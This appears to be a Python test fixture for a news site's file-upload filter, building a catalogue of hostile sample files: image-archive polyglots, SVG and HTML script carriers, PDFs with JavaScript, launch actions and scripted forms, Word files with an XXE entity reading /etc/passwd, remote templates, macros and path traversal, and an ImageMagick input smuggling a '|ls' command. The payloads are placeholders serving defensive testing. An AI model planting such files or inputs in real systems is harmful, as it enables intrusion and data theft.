"""A catalogue of hostile files, built here and stored nowhere: name of the trick → (bytes, name of the file)."""

import zlib
from collections.abc import Callable

from PIL import Image, PngImagePlugin

from tests.news import clamd, papers
from tests.news.test_files import (
    OLE,
    make_object_stream,
    make_office,
    make_pdf,
    make_relationship,
    make_zip,
)
from tests.news.test_pictures import (
    DESCRIPTION,
    GPS,
    encode,
    make_animation,
    make_noise,
    make_picture,
    make_png_of_size,
)

MARK = b"tan_cong"  # stands in whatever is hostile by what rides along: must be in nothing that is stored
SCRIPT = b"<script>tan_cong()</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='tan_cong()'/>"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
XXE = b"<!DOCTYPE w [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><w>&a; tan_cong</w>"
XFA = (  # an event of a form in XFA, packed as such forms come
    b"7 0 obj<</AcroForm<</XFA[(template) 8 0 R]>>>>endobj 8 0 obj<</Filter/FlateDecode>>stream\n"
    + zlib.compress(b'<template><event activity="initialize"><script>tan_cong()</script></event></template>')
    + b"\nendstream endobj"
)


def _archive() -> bytes:
    return make_zip(
        {"META-INF/MANIFEST.MF": "Main-Class: tan_cong", "a.class": b"\xca\xfe\xba\xbe" + MARK}, compression=0
    )


def _jpeg(**options) -> bytes:
    return encode(make_picture(), "JPEG", **options)


def _from_a_phone() -> bytes:
    exif = Image.Exif()
    exif[DESCRIPTION] = "tan_cong"
    exif.get_ifd(GPS).update({1: "N", 2: (10.0, 27.0, 0.0), 3: "E", 4: (105.0, 38.0, 0.0)})
    return _jpeg(exif=exif, comment=MARK, xmp=b"<x:xmpmeta>tan_cong</x:xmpmeta>")


def _png_with_words() -> bytes:
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Author", "tan_cong")
    notes.add_text("Comment", "tan_cong" * 1000, zip=True)
    return encode(make_picture(), "PNG", pnginfo=notes)


def _from_a_camera() -> bytes:
    second = make_picture(colour=(1, 2, 3))
    return encode(make_picture(), "MPO", save_all=True, append_images=[second]) + MARK


def _office(kind="docx", **parts) -> bytes:
    return make_office(kind, **parts)


def _related(kind: str, target: str) -> bytes:
    return _office(extra={"word/_rels/document.xml.rels": make_relationship(kind, target)})


PICTURES: dict[str, tuple[Callable[[], bytes], str]] = {
    "GIFAR": (lambda: encode(make_picture(), "GIF") + _archive(), "anh.gif"),
    "GIFAR named JPEG": (lambda: encode(make_picture(), "GIF") + _archive(), "anh.jpg"),
    "JPEG and archive": (lambda: _jpeg() + _archive(), "anh.jpg"),
    "PNG and archive": (lambda: encode(make_picture(), "PNG") + _archive(), "anh.png"),
    "JPEG and PDF": (lambda: _jpeg(comment=make_pdf(MARK)), "anh.pdf"),
    "JPEG and EICAR": (lambda: _jpeg() + clamd.EICAR, "anh.jpg"),
    "HTML in a JPEG": (lambda: _jpeg(comment=SCRIPT) + HTML, "anh.jpg.html"),
    "HTML named JPEG": (lambda: HTML, "anh.jpg"),
    "HTML behind JPEG's first letters": (lambda: b"\xff\xd8\xff\xe0" + HTML, "anh.jpg"),
    "SVG": (lambda: SVG, "anh.svg"),
    "SVG named PNG": (lambda: SVG, "anh.png"),
    "50,000 × 50,000": (lambda: make_png_of_size(50_000, 50_000), "anh.png"),
    "camera's second picture": (_from_a_camera, "anh.jpg"),
    "moving WebP": (lambda: make_animation("WEBP"), "anh.webp"),
    "moving PNG": (lambda: make_animation("PNG"), "anh.png"),
    "place and words of a phone": (_from_a_phone, "anh.jpg"),
    "words in a PNG": (_png_with_words, "anh.png"),
    "JPEG cut off": (lambda: encode(make_noise(320, 240), "JPEG")[:-4000], "anh.jpg"),
    "PNG cut off": (lambda: encode(make_noise(320, 240), "PNG")[:-4000], "anh.png"),
    "WebP cut off": (lambda: encode(make_noise(320, 240), "WEBP")[:-1000], "anh.webp"),
    "PCX of many": (lambda: b"\xb1\x68\xde\x3a" + b"\x0c\0\0\0\0\0\0\0" + encode(make_picture(), "PCX"), "anh.png"),
    "PostScript": (lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(tan_cong) run\n%%EOF", "anh.png"),
    "ImageMagick's language": (lambda: b"push graphic-context\nfill 'url(https://x/tan_cong|ls)'\npop", "anh.png"),
    "TIFF": (lambda: encode(make_picture(), "TIFF"), "anh.tif"),
    "icon": (lambda: encode(make_picture(64, 64), "ICO"), "anh.png"),
}
DOCUMENTS: dict[str, tuple[Callable[[], bytes], str]] = {
    "PDF with JavaScript": (lambda: make_pdf(b"<</S/JavaScript/JS(tan_cong())>>"), "a.pdf"),
    "PDF that acts on opening": (lambda: make_pdf(b"<</OpenAction<</S/J#61vaScript/JS(tan_cong())>>>>"), "a.pdf"),
    "PDF that starts a program": (lambda: make_pdf(b"<</S/Launch/F(tan_cong.exe)>>"), "a.pdf"),
    "PDF with a file inside": (lambda: make_pdf(b"<</Type/EmbeddedFile>>"), "a.pdf"),
    "PDF with a hidden script": (lambda: make_pdf(make_object_stream(b"7 0 <</JS(tan_cong())>>")), "a.pdf"),
    "PDF with a scripted form": (lambda: make_pdf(XFA), "a.pdf"),
    "PDF with an encrypted script": (
        lambda: papers.open_locked_pdf(b"/OpenAction<</S/JavaScript/JS(tan_cong())>>"),
        "a.pdf",
    ),
    "PDF and archive": (lambda: make_pdf() + _archive(), "a.pdf"),
    "PDF and EICAR": (lambda: make_pdf(b"(" + clamd.EICAR + b")"), "a.pdf"),
    "PDF cut off": (lambda: make_pdf(b" " * 5000)[:-3000], "a.pdf"),
    "HTML before a PDF": (lambda: HTML + make_pdf(), "a.pdf"),
    "Word that unpacks to much": (lambda: _office(extra={"customXml/item1.xml": b"<a>" + bytes(12_000_000)}), "a.docx"),
    "Word with an entity": (lambda: _office(extra={"word/settings.xml": XXE}), "a.docx"),
    "Word with a template elsewhere": (lambda: _related("attachedTemplate", "https://ke.xau/tan_cong.dotm"), "a.docx"),
    "Word with an object elsewhere": (lambda: _related("oleObject", "https://ke.xau/tan_cong"), "a.docx"),
    "Word with a macro": (lambda: _office(extra={"word/vbaProject.bin": OLE + MARK}), "a.docx"),
    "docm named docx": (lambda: _office(types=f'<Override ContentType="{MACRO_TYPE}"/>'), "a.docx"),
    "Word with a program": (lambda: _office(extra={"word/embeddings/tan_cong.exe": b"MZ"}), "a.docx"),
    "Word with a way out": (lambda: _office(extra={"../../tan_cong.xml": "<a/>"}), "a.docx"),
    "Word cut off": (lambda: _office()[:-30], "a.docx"),
    "Word and EICAR": (lambda: _office() + b"PK" + clamd.EICAR, "a.docx"),
    "Excel with a macro": (lambda: _office("xlsx", extra={"xl/vbaProject.bin": OLE + MARK}), "a.xlsx"),
    "old Word": (lambda: OLE + bytes(600), "a.doc"),
    "two endings": (lambda: b"MZ\x90\0" + MARK, "nghi-quyet.pdf.exe"),
    "program named PDF": (lambda: b"MZ\x90\0" + MARK, "nghi-quyet.pdf"),
    "PHP": (lambda: b"<?php tan_cong(); ?>", "a.php.docx"),
    "HTML": (lambda: HTML, "a.html"),
    "RTF": (lambda: b"{\\rtf1{\\object tan_cong}}", "a.docx"),
    "shell": (lambda: b"#!/bin/sh\ntan_cong\n", "a.sh"),
    "EICAR": (lambda: clamd.EICAR, "eicar.com"),
    "nothing": (lambda: b"", "a.pdf"),
    "zeros": (lambda: bytes(5000), "a.docx"),
}
CATALOGUE = {**PICTURES, **DOCUMENTS}
# Where these hostile bytes hold a picture, it may be shown, encoded anew.
SHOWN = {
    "JPEG and archive",
    "PNG and archive",
    "JPEG and PDF",
    "HTML in a JPEG",
    "camera's second picture",
    "place and words of a phone",
    "words in a PNG",
}
# A Word file with a linked picture, for itself: refused to be published, while a draft is made of its text.
LINKED = _related("image", "https://ke.xau/tan_cong.png")
